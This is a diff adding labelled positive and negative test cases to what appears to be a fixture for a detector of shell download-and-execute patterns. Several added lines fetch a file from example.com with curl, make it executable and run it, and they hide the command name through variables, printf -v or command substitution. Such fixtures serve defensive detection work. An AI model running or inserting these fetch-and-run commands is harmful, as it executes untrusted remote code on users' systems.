@@ -592,3 +592,16 @@ command -v bash >/dev/null && ${_} -c "$(curl -fsSL https://example.com/i)"
 #@ neg $_ as a directory made the line before
 mkdir -p build && cd "$_"
 echo "$_"
+#@ pos a download and its run named by variables set once to constant words
+get=curl run=/tmp/x
+"$get" -so /tmp/x https://example.com/x
+chmod +x /tmp/x
+"${run}"
+#@ pos a download named by printf -v and by a constant command substitution, run
+printf -v get %s curl
+"$get" -fsSL -o /tmp/i.sh https://example.com/i.sh
+"$(printf %s bash)" /tmp/i.sh
+#@ neg a variable set to a constant, then read from the user, names the command
+get=curl
+read -r get
+"$get" -so /tmp/x https://example.com/x
